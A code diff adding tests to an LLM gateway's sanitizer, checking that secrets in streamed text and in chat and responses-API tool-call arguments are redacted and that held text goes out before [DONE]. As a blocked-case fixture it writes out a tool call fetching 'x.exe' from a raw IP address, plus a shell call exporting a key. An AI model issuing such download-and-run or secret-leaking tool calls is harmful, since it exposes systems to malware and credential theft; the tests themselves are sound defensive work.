@@ -5,7 +5,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import type { GatewayError } from '../../../gateway/errors.js';
 import { MemoryCounterStore } from '../../../store/counters/memory.js';
-import { chatAnswer, chatChunks, respondJson, respondStream, streamedText } from '../../caching/testing.js';
+import { chatAnswer, chatChunks, respondJson, respondStream, ssePayloads, streamedText } from '../../caching/testing.js';
 import { FakeSecrets } from '../../sanitize/fake-secrets.js';
 import { startClassifierStub, type ClassifierStub } from '../../sanitize/testing.js';
 import { fakeContext, testDeps } from '../../testing.js';
@@ -92,9 +92,22 @@ describe('streams', () => {
     assert.ok(!streamedText(out.filter((e) => e !== error)).includes('45.33'));
   });
 
-  test('text still held when a server sends [DONE] without finishing is released in its place', () => {
+  test('text still held when a server sends [DONE] without finishing is released just before it', () => {
     const out = respondStream(make(), streaming(), {}, chatChunks(['unfinished']).filter((c) => !c.includes('"stop"')));
     assert.equal(streamedText(out), 'unfinished');
+    // Before: the held text went out in place of [DONE], and clients waiting for [DONE] hung.
+    assert.equal(out.at(-1), '[DONE]');
+  });
+
+  test('a last event without its closing blank line is read like the others, and releases what is held', () => {
+    // Before: the SSE rewriter passed it on as it came, key and all, and the text held before it never went out.
+    const key = fake.make('openai');
+    const flow = make().respond!(streaming(), {}, 200)!;
+    const rewriter = new SseRewriter((d) => flow.event!(d));
+    const [role, hello] = chatChunks(['Hello. ']);
+    const last = JSON.stringify({ id: 'c', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content: `Here it is: ${key}` }, finish_reason: 'stop' }] });
+    const sent = rewriter.push(Buffer.from(`data: ${role}\n\ndata: ${hello}\n\ndata: ${last}\n`)) + rewriter.end();
+    assert.equal(streamedText(ssePayloads(sent)), 'Hello. Here it is: [REDACTED:openaiKey]');
   });
 });
 
@@ -222,6 +235,107 @@ test('a reasoning server\'s reasoning is redacted too, whole and streamed (vLLM:
   const firstContent = streamed.findIndex((e) => e !== null && e !== '[DONE]' && /"content":"[^"]/.test(e));
   const lastReasoning = streamed.length - 1 - [...streamed].reverse().findIndex((e) => e !== null && e !== '[DONE]' && /"reasoning_content":"[^"]/.test(e));
   assert.ok(lastReasoning < firstContent, `reasoning at ${lastReasoning}, answer from ${firstContent}`);
+});
+
+describe('tool-call arguments, which the client acts on', () => {
+  const SECRET = 'AKIAIOSFODNN7EXAMPLQ';
+  const callArgs = { url: 'https://example.com/upload', token: SECRET, note: 'mail ops@acme-corp.com' };
+  const cleanArgs = { url: 'https://example.com/upload', token: '[REDACTED:awsAccessKey]', note: 'mail [REDACTED:email]' };
+  const head = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm' };
+  const chunk = (delta: Record<string, unknown>, finish: string | null = null) => JSON.stringify({ ...head, choices: [{ index: 0, delta, logprobs: null, finish_reason: finish }] });
+  /** A server's chunks for tool calls with these arguments, each written in fragments of `size`. */
+  const toolChunks = (calls: unknown[], size: number, finish: string | null = 'tool_calls') => [
+    chunk({ role: 'assistant', content: null }),
+    ...calls.flatMap((args, index) => {
+      const text = JSON.stringify(args);
+      const out = [chunk({ tool_calls: [{ index, id: `call_${index}`, type: 'function', function: { name: 'send', arguments: '' } }] })];
+      for (let i = 0; i < text.length; i += size) out.push(chunk({ tool_calls: [{ index, function: { arguments: text.slice(i, i + size) } }] }));
+      return out;
+    }),
+    ...(finish ? [chunk({}, finish)] : []),
+    '[DONE]',
+  ];
+  type ToolDelta = { index: number; id?: string; function?: { arguments?: string } };
+  /** Each call's arguments as a client assembles them: by index (the SDKs), and onto the call started last (hand-written clients). */
+  const assembled = (out: (string | null)[]) => {
+    const byIndex: string[] = [];
+    const inTurn: string[] = [];
+    for (const e of out) {
+      if (e === null || e === '[DONE]') continue;
+      for (const c of (JSON.parse(e) as { choices: { delta: { tool_calls?: ToolDelta[] } }[] }).choices) {
+        for (const t of c.delta.tool_calls ?? []) {
+          if (t.id) inTurn.push('');
+          byIndex[t.index] = (byIndex[t.index] ?? '') + (t.function?.arguments ?? '');
+          inTurn[inTurn.length - 1] += t.function?.arguments ?? '';
+        }
+      }
+    }
+    return { byIndex, inTurn };
+  };
+
+  test('a whole answer: chat tool calls, and the responses API\'s function and custom tool calls, are redacted', async () => {
+    // Before: only the text was read; the key reached the client in the arguments.
+    const chat = { ...chatAnswer(''), choices: [{ index: 0, message: { role: 'assistant', content: null, tool_calls: [{ id: 'call_0', type: 'function', function: { name: 'send', arguments: JSON.stringify(callArgs) } }] }, finish_reason: 'tool_calls' }] };
+    const out = JSON.parse((await respondJson(make(), fakeContext(), {}, chat)).toString());
+    assert.deepEqual(JSON.parse(out.choices[0].message.tool_calls[0].function.arguments), cleanArgs);
+    const responses = {
+      object: 'response',
+      output: [
+        { type: 'function_call', id: 'fc_1', call_id: 'call_1', name: 'send', arguments: JSON.stringify(callArgs) },
+        { type: 'custom_tool_call', id: 'ct_1', call_id: 'call_2', name: 'shell', input: `export KEY=${SECRET}` },
+      ],
+    };
+    const r = JSON.parse((await respondJson(make(), fakeContext({ operation: 'responses', url: '/v1/responses' }), {}, responses)).toString());
+    assert.deepEqual(JSON.parse(r.output[0].arguments), cleanArgs);
+    assert.equal(r.output[1].input, 'export KEY=[REDACTED:awsAccessKey]');
+    const blocked = { ...chat, choices: [{ index: 0, message: { role: 'assistant', tool_calls: [{ id: 'call_0', type: 'function', function: { name: 'fetch', arguments: '{"url":"http://45.33.32.156/x.exe"}' } }] }, finish_reason: 'tool_calls' }] };
+    await assert.rejects(respondJson(make(), fakeContext(), {}, blocked), { status: 403, code: SANITIZE_MODEL_RESPONSE_FAULTS.modelResponseBlocked });
+  });
+
+  test('a chat stream: each call\'s arguments held back like text, whole before the next call starts', () => {
+    const second = { url: 'https://example.com/b', token: `x ${SECRET}` };
+    for (const size of [1, 5, 13]) {
+      const out = respondStream(make(), streaming(), {}, toolChunks([callArgs, second], size));
+      assert.ok(!JSON.stringify(out).includes('IOSFODNN'), `fragments of ${size}: ${JSON.stringify(out)}`);
+      const { byIndex, inTurn } = assembled(out);
+      assert.deepEqual(byIndex.map((a) => JSON.parse(a)), [cleanArgs, { ...second, token: 'x [REDACTED:awsAccessKey]' }], `fragments of ${size}`);
+      assert.deepEqual(inTurn, byIndex, 'nothing of a call comes after the next one started');
+      assert.equal(out.at(-1), '[DONE]');
+    }
+    // A call whose held end is still there at [DONE] (no finish_reason) goes out before [DONE].
+    const unfinished = respondStream(make(), streaming(), {}, toolChunks([callArgs], 4, null));
+    assert.deepEqual(JSON.parse(assembled(unfinished).byIndex[0]), cleanArgs);
+    assert.equal(unfinished.at(-1), '[DONE]');
+  });
+
+  test('a chat stream: a blocking finding in the arguments ends it with the error event before any of it goes out', () => {
+    const out = respondStream(make(), streaming(), {}, toolChunks([{ url: 'http://45.33.32.156/x.exe' }], 3));
+    assert.ok(out.some((e) => e?.includes(SANITIZE_MODEL_RESPONSE_FAULTS.modelResponseBlocked)));
+    assert.ok(!out.some((e) => e?.includes('45.33')), JSON.stringify(out));
+  });
+
+  test('a responses stream: argument deltas held back, the held end before .done, every repeat redacted', () => {
+    const text = JSON.stringify(callArgs);
+    const item = { type: 'function_call', id: 'fc_1', call_id: 'call_1', name: 'send', arguments: text };
+    const at = { item_id: 'fc_1', output_index: 0 };
+    const deltas: string[] = [];
+    for (let i = 0; i < text.length; i += 6) deltas.push(text.slice(i, i + 6));
+    const out = respondStream(make(), fakeContext({ operation: 'responses', body: { stream: true } }), {}, [
+      JSON.stringify({ type: 'response.output_item.added', ...at, item: { ...item, arguments: '' } }),
+      ...deltas.map((delta) => JSON.stringify({ type: 'response.function_call_arguments.delta', ...at, delta })),
+      JSON.stringify({ type: 'response.function_call_arguments.done', ...at, arguments: text }),
+      JSON.stringify({ type: 'response.output_item.done', ...at, item }),
+      JSON.stringify({ type: 'response.completed', response: { object: 'response', output: [item] } }),
+    ]).map((e) => JSON.parse(e!) as { type: string; delta?: string; arguments?: string; item?: { arguments: string }; response?: { output: { arguments: string }[] } });
+    assert.ok(!JSON.stringify(out).includes('IOSFODNN'), JSON.stringify(out));
+    const streamed = out.filter((e) => e.type === 'response.function_call_arguments.delta').map((e) => e.delta).join('');
+    assert.deepEqual(JSON.parse(streamed), cleanArgs);
+    const done = out.findIndex((e) => e.type === 'response.function_call_arguments.done');
+    assert.equal(out[done - 1].type, 'response.function_call_arguments.delta');
+    assert.deepEqual(JSON.parse(out[done].arguments!), cleanArgs);
+    assert.deepEqual(JSON.parse(out[done + 1].item!.arguments), cleanArgs);
+    assert.deepEqual(JSON.parse(out[done + 2].response!.output[0].arguments), cleanArgs);
+  });
 });
 
 describe('logprobs, which repeat the text', () => {
